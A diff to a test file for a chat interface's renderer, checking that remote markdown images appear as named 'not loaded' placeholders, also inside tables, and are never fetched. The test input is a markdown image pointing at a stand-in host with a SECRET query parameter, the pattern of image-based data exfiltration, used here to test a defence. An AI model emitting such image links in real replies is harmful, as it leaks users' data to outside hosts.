@@ -19,6 +19,7 @@ from app.ui.chat.rows.items import AssistantRow, TextPart, UserRow
 from app.ui.chat.view import ChatView
 from app.ui.render.body import MAX_RENDERED, MessageBody
 from app.ui.render.code import Code
+from app.ui.render.picture_card import PictureCard
 from app.ui.render.plain import Rest
 from app.ui.render.table import TableCard
 from app.ui.render.text_view import TextView
@@ -141,9 +142,11 @@ def anchors(body: MessageBody) -> list[str]:
 
 
 def test_M01_a_remote_image_is_named_and_not_fetched(show: Show) -> None:
-    body = show("![x](https://canary.test/?d=SECRET)")
-    assert "canary.test" in words(body)
-    assert "not loaded" in words(body)
+    (card,) = show("![x](https://canary.test/?d=SECRET)").segments()
+    assert isinstance(card, PictureCard)
+    assert card._words() == "x (canary.test) – not loaded"
+    in_a_table = words(show("| a |\n|---|\n| ![x](https://canary.test/?d=SECRET) |"))
+    assert "[picture: x (canary.test) – not loaded]" in in_a_table
 
 
 def test_M02_images_by_reference_are_named(show: Show) -> None:
